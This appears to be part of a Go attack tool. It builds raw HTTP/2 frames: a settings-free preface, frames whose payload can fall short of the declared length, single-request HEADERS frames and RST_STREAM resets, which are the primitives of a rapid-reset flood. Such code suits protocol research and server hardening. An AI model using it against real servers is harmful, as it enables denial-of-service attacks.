package main

import (
	"encoding/binary"
)

// As much of HTTP/2 (RFC 9113) and HPACK (RFC 7541) as attacks need.
const (
	frameHeaders = 1
	frameReset   = 3

	preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + "\x00\x00\x00\x04\x00\x00\x00\x00\x00" // and no settings
)

// frame is a frame's header and its payload, which may be shorter than it says.
func frame(kind, flags byte, stream uint32, length int, payload string) string {
	b := []byte{byte(length >> 16), byte(length >> 8), byte(length), kind, flags}
	return string(binary.BigEndian.AppendUint32(b, stream)) + payload
}

// ask is a whole GET request on a stream of its own.
func ask(stream uint32, path string) string {
	const endStream, endHeaders = 1, 4
	// :method GET and :scheme https are in the static table; :path and :authority are literals.
	block := "\x82\x87" + "\x04" + string(rune(len(path))) + path + "\x01\x01g"
	return frame(frameHeaders, endStream|endHeaders, stream, len(block), block)
}

// reset ends a stream.
func reset(stream uint32) string { return frame(frameReset, 0, stream, 4, "\x00\x00\x00\x08") }
